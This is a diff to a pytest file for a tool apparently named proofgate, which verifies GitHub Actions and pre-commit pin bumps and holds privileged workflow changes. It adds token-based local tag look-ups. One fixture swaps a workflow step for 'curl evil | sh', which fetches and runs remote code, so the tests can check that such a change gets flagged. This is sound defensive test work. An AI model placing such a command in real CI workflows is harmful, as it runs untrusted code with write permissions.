@@ -11,6 +11,7 @@ from __future__ import annotations
 import json
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -29,7 +30,12 @@ V430 = "08eba0b27e820071cde6df949e0beb9ba4906955"  # actions/checkout v4.3.0
 FORK = "5" * 40  # a commit of a fork, which GitHub also serves under the upstream's name
 RUFF_061 = "a" * 40
 RUFF_070 = "b" * 40
-WORKFLOW = "jobs:\n  t:\n    steps:\n      - uses: actions/checkout@{} # {}\n      - run: make\n"
+# a privileged job (SPEC §2.1): only a verified pin bump of it is not held
+WORKFLOW = (
+    "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    permissions:\n"
+    "      contents: write\n    steps:\n      - uses: actions/checkout@{} # {}\n"
+    "      - run: make\n"
+)
 PRECOMMIT = (
     "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n"
     "    rev: {}\n    hooks:\n      - id: ruff\n"
@@ -122,7 +128,7 @@ def test_a_pre_commit_autoupdate_to_a_newer_tag_is_verified(
         pytest.param(
             WORKFLOW.format(V422, "v4.2.2"),
             WORKFLOW.format(V430, "v4.3.0").replace("run: make", "run: curl evil | sh"),
-            "line 5 is not a pin",
+            "line 9 is not a pin",
             id="pin-and-a-step",
         ),
         pytest.param(
@@ -177,9 +183,8 @@ def test_a_failing_api_verifies_nothing(tmp_path: Path, standin: GitHubStandIn) 
     assert "not verified: the tag look-up failed" in found["ci-workflow-changed"][0]["message"]
 
 
-def test_a_local_run_holds_the_bump_and_says_it_cannot_look_tags_up(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def _cli_bump(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, Any]:
+    """`proofgate policy --json` on a repository whose head moves checkout v4.2.2 → v4.3.0."""
     repo = _repo(
         tmp_path,
         ".github/workflows/ci.yml",
@@ -188,10 +193,31 @@ def test_a_local_run_holds_the_bump_and_says_it_cannot_look_tags_up(
     )
     capsys.readouterr()
     code = main(["policy", "--repo", str(repo), "--base", "main", "--head", "pr", "--json"])
-    predicate = json.loads(capsys.readouterr().out)
+    return code, json.loads(capsys.readouterr().out)
+
+
+def test_a_local_run_holds_the_bump_and_says_it_cannot_look_tags_up(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, predicate = _cli_bump(tmp_path, capsys)
     assert code == 11
     (f,) = [x for x in predicate["policy"]["findings"] if x["rule"] == "ci-workflow-changed"]
     assert f["message"].endswith(
-        "nothing else changed; not verified: tag look-ups need the GitHub API, which only "
-        "the Action has (a local run)"
+        "nothing else changed; not verified: tag look-ups need the GitHub API: the Action "
+        "has it; a local run has it with GITHUB_TOKEN or GH_TOKEN set"
     )
+
+
+@pytest.mark.parametrize("variable", ["GITHUB_TOKEN", "GH_TOKEN"])
+def test_a_local_run_with_a_token_looks_the_tags_up(
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+    standin: GitHubStandIn,
+    variable: str,
+) -> None:
+    monkeypatch.setenv(variable, TOKEN)
+    monkeypatch.setenv("GITHUB_API_URL", standin.api_url)
+    code, predicate = _cli_bump(tmp_path, capsys)
+    assert code == 0, predicate["policy"]
+    assert [f["rule"] for f in predicate["policy"]["findings"]] == ["pin-bump-verified"]
